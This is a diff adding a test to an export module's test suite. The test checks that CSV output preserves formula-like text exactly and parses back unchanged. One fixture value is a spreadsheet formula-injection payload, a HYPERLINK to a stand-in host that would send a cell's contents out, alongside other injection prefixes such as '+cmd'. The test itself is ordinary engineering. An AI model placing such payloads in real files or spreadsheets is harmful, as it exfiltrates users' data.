@@ -29,6 +29,13 @@ describe('export building blocks', () => {
     });
   });
 
+  it('CSV keeps formula-like text exact, for an importer to read back as it was', () => {
+    const values = ['=HYPERLINK("http://evil.test/?x="&A1,"x")', '+cmd', '-2+3', '@SUM(1+1)', '\tx', -3];
+    expect(csvLine(values)).toBe('"=HYPERLINK(""http://evil.test/?x=""&A1,""x"")",+cmd,-2+3,@SUM(1+1),\tx,-3\r\n');
+    const header = values.map((_, i) => `h${i}`);
+    expect(Object.values(parseCsv(csvLine(header) + csvLine(values)).rows[0]!)).toEqual(values.map(String));
+  });
+
   it('the ZIP holds each entry whole, in order, with UTF-8 names, pulled one chunk at a time', async () => {
     let pulled = 0;
     async function* entries(): AsyncGenerator<ZipEntry> {
